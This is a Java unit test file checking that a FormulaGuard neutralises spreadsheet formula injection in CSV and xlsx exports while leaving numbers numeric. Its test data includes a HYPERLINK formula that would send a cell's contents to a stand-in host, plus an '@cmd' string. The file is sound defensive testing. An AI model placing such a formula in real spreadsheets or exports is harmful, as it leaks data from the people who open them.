package nl.kansrijk.io.output;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Text that a spreadsheet would evaluate as a formula is written neutralised in CSV and xlsx; numbers stay numbers. */
class FormulaGuardTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"dossier\")";

    @TempDir
    Path tmp;

    @Test
    void everyTriggerIsNeutralisedAndPlainNumbersAndOrdinaryTextAreNot() {
        for (String s : List.of(HYPERLINK, "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "-3a", "=1")) {
            assertThat(FormulaGuard.tekst(s)).as(s).isEqualTo("'" + s);
        }
        for (String s : List.of("-3", "-0.25", "-1,5", "+4", "3", "broer woont in de buurt", "", "a=b", "'=al")) {
            assertThat(FormulaGuard.tekst(s)).as(s).isEqualTo(s);
        }
        assertThat(FormulaGuard.cel(-3L)).isEqualTo(-3L);
        assertThat(FormulaGuard.cel(null)).isNull();
    }

    @Test
    void csvInBothStylesNeutralisesTextButKeepsNegativeNumbers() throws IOException {
        Tabel t = new Tabel("t.csv", List.of("id", "score", "decimaal", "reden"),
                List.of(Arrays.asList("H1", -3L, new BigDecimal("-0.5"), HYPERLINK),
                        Arrays.asList("-H2", -12, null, "@cmd")));
        ByteArrayOutputStream standard = new ByteArrayOutputStream();
        t.schrijfCsv(standard, CsvStijl.STANDARD);
        assertThat(standard.toString(StandardCharsets.UTF_8).lines().toList()).containsExactly("id,score,decimaal,reden",
                "H1,-3,-0.5,\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"dossier\"\")\"", "'-H2,-12,,'@cmd");
        ByteArrayOutputStream excel = new ByteArrayOutputStream();
        t.schrijfCsv(excel, CsvStijl.EXCEL);
        assertThat(excel.toString(StandardCharsets.UTF_8)).contains(";-3;-0,5;\"'=HYPERLINK(").contains("'-H2;-12;;'@cmd");
    }

    @Test
    void xlsxTextCellsNeutralisedNumbersStayNumeric() throws IOException {
        Tabel t = new Tabel("t.csv", List.of("id", "score", "reden"),
                List.of(Arrays.asList("H1", -3L, HYPERLINK), Arrays.asList("H2", 4, "gewoon")));
        Path file = tmp.resolve("uitvoer.xlsx");
        XlsxWriter.write(file, List.of(t));
        try (XSSFWorkbook wb = new XSSFWorkbook(Files.newInputStream(file))) {
            Sheet s = wb.getSheet("t");
            assertThat(s.getRow(1).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(s.getRow(1).getCell(1).getNumericCellValue()).isEqualTo(-3.0);
            assertThat(s.getRow(1).getCell(2).getCellType()).isEqualTo(CellType.STRING);
            assertThat(s.getRow(1).getCell(2).getStringCellValue()).isEqualTo("'" + HYPERLINK);
            assertThat(s.getRow(2).getCell(2).getStringCellValue()).isEqualTo("gewoon");
        }
    }
}
